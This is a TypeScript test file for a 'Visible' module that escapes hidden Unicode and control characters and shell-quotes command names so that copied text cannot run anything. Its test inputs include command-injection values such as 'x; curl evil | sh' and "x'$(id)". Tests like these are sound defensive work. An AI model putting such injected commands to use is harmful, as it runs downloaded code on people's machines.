import { assert, describe, it } from "@effect/vitest"
import * as Schema from "effect/Schema"
import * as Visible from "../src/trust/Visible.ts"

describe("Visible", () => {
  it("writes out what hides or turns text, and leaves the rest", () => {
    assert.strictEqual(Visible.text("plain text, Ünïcode 漢字 😀\nnext"), "plain text, Ünïcode 漢字 😀\nnext")
    const hiding = "\u001b[31m\u200b\u202e\u2066\u00ad\ufeff"
    assert.strictEqual(Visible.text(hiding), "\\u{1B}[31m\\u{200B}\\u{202E}\\u{2066}\\u{AD}\\u{FEFF}")
    assert.strictEqual(Visible.text("\u{E0041}\uFE01\uFE0F\u3164"), "\\u{E0041}\\u{FE01}\\u{FE0F}\\u{3164}")
    assert.strictEqual(Visible.text("❤\uFE0F"), "❤\uFE0F")
  })

  it("makes one word of a command of any name, so that nothing of it is run when a person copies it", () => {
    assert.strictEqual(Visible.word("files"), "files")
    assert.strictEqual(Visible.word("@scope/a.b-c"), "@scope/a.b-c")
    assert.strictEqual(Visible.word("x; curl evil | sh"), "'x; curl evil | sh'")
    assert.strictEqual(Visible.word("x'$(id)"), "'x'\\''$(id)'")
    assert.strictEqual(Visible.word("a\nb"), "'a b'")
  })

  it.prop(
    "leaves no control or format character, whatever the text",
    { text: Schema.String },
    ({ text }) => !/[\p{Cf}\u0000-\u0009\u000b-\u001f\u007f-\u009f]/u.test(Visible.text(text))
  )
})
